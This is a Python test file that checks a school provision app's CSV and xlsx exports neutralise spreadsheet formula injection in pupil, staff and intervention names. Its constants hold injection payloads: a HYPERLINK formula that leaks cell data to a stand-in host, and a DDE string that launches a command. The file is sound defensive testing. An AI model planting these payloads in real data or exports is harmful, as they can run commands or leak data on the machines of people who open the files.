"""No export carries a live formula (issue 12, item 3).

The cell function is property-tested; then every CSV and xlsx download is made with pupil, staff,
intervention and provision names that are formulas, and read back: in the CSV each such cell
starts with `'`, in the xlsx it is a string cell holding the exact text, and no cell anywhere is
a formula."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from provision.models import Intervention, StaffRole, TopUpFunding
from provision.tests.test_reports import YEAR, build_example
from ui import cells

HYPERLINK = '=HYPERLINK("http://x.invalid/"&A2,"Click")'
PLUS = "+1"
MINUS = "-2+3"
AT = "@SUM(A1)"
DDE = "=cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- the cell function ------------------------------------------------------------------------


@given(st.text())
def test_a_csv_text_cell_never_starts_like_a_formula_and_keeps_its_text(text):
    cell = cells.csv_cell(text)
    assert isinstance(cell, str) and not cell.startswith(STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(STARTS))


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers_in_csv(number):
    assert cells.csv_cell(number) == number and type(cells.csv_cell(number)) is type(number)


@pytest.mark.parametrize("text", [HYPERLINK, PLUS, MINUS, AT, DDE, "\tx", "\r=1"])
def test_the_owasp_characters_get_a_quote(text):
    assert cells.csv_cell(text) == "'" + text


def test_other_values_are_their_text_and_none_is_empty():
    assert cells.csv_cell(None) == ""
    assert cells.csv_cell(date(2025, 1, 2)) == "2025-01-02"
    assert cells.csv_cell({"a": "=1"}) == "{'a': '=1'}"


_XML_SAFE = st.characters(blacklist_categories=["Cs"], blacklist_characters="\r")


@settings(deadline=None)  # a workbook saved and loaded per example; the machine is shared
@given(st.text(alphabet=_XML_SAFE, max_size=200))
def test_an_xlsx_text_cell_is_a_string_with_the_text_and_survives_a_round_trip(text):
    book = Workbook()
    ws = book.active
    cells.append(ws, [text])
    cell = ws["A1"]
    kept = cells.ILLEGAL_CHARACTERS_RE.sub("", text)
    assert cell.data_type == "s" and cell.value == kept
    buffer = BytesIO()
    book.save(buffer)
    again = load_workbook(BytesIO(buffer.getvalue())).active["A1"]
    assert again.data_type != "f"
    assert (again.value or "") == kept


def test_xlsx_numbers_and_dates_keep_their_type():
    ws = Workbook().active
    cells.append(ws, [-2, Decimal("-1.5"), 3.5, date(2025, 1, 2), None, "#N/A"])
    assert [c.data_type for c in ws[1]] == ["n", "n", "n", "d", "n", "s"]
    assert ws["A1"].value == -2 and ws["F1"].value == "#N/A"


# --- every export -----------------------------------------------------------------------------


@pytest.fixture
def planted(world):
    """The example provision with formulas for names: Amy's forename and surname, Ben's surname,
    the SENCo's username, the TA's name, the intervention, the provision, the staff role and a
    top-up note."""
    provisions = build_example(world)
    amy, ben = world.amy, world.ben
    amy.legal_forename, amy.legal_surname = HYPERLINK, AT
    amy.save()
    ben.legal_surname = PLUS
    ben.save()
    senco = world.users["senco"]
    senco.username = MINUS
    senco.save()
    ta = world.users["ta"]
    ta.first_name, ta.last_name = MINUS, ""
    ta.save()
    reading = provisions["reading"]
    reading.name = AT
    reading.save()
    Intervention.objects.filter(pk=reading.intervention_id).update(name=PLUS)
    StaffRole.objects.filter(pk=reading.staff_role_id).update(name=HYPERLINK)
    TopUpFunding.objects.create(pupil=amy, start_year=YEAR, amount=Decimal(100), note=DDE)
    return world


def _client(world) -> Client:
    client = Client()
    client.force_login(world.users["senco"])
    return client


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(StringIO(response.content.decode())))
    return [c for row in rows for c in row]


def _assert_csv_safe(response, *texts: str) -> None:
    found = _csv_cells(response)
    for cell in found:
        if cell.startswith(STARTS):  # only a number may start like a formula
            float(cell)
    for text in texts:
        assert "'" + text in found, text


def _xlsx_cells(response) -> list:
    assert response.status_code == 200 and response.content[:2] == b"PK"
    book = load_workbook(BytesIO(response.content))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert found
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    return found


def _assert_xlsx_safe(response, *texts: str, within: tuple[str, ...] = ()) -> None:
    strings = [c.value for c in _xlsx_cells(response) if c.data_type == "s"]
    for text in texts:
        assert text in strings, text
    for text in within:  # part of a longer cell, e.g. "name (role)"
        assert any(text in s for s in strings), text


@pytest.mark.django_db
def test_register_csv(planted):
    response = _client(planted).get(reverse("register_export", args=["csv"]), {"provision": "all"})
    _assert_csv_safe(response, HYPERLINK, AT, PLUS)


@pytest.mark.django_db
def test_register_xlsx(planted):
    response = _client(planted).get(reverse("register_export", args=["xlsx"]), {"provision": "all"})
    _assert_xlsx_safe(response, HYPERLINK, AT, PLUS)


@pytest.mark.django_db
def test_audit_csv(planted):
    client = _client(planted)
    assert client.get(reverse("pupil_detail", args=[planted.amy.pk])).status_code == 200
    response = client.get(reverse("audit_export"))
    # The actor is the SENCo's username. The object column names the record by kind and id
    # (audit/log.py keeps no names), so the username is the one typed text in the trail.
    _assert_csv_safe(response, MINUS)


@pytest.mark.django_db
def test_provision_map_xlsx(planted):
    response = _client(planted).get(reverse("provision_map_xlsx") + f"?year={YEAR}")
    _assert_xlsx_safe(response, HYPERLINK, AT, PLUS)


@pytest.mark.django_db
def test_costed_map_xlsx(planted):
    url = reverse("pupil_costed_map_xlsx", args=[planted.amy.pk]) + f"?year={YEAR}"
    response = _client(planted).get(url)
    _assert_xlsx_safe(response, PLUS, AT, DDE, f"{HYPERLINK} {AT}", within=(MINUS, HYPERLINK))


@pytest.mark.django_db
def test_import_template(planted):
    Intervention.objects.create(school=planted.oak, name=DDE, area="CL")
    response = _client(planted).get(reverse("provision_import_template"))
    _assert_xlsx_safe(response, DDE, HYPERLINK)
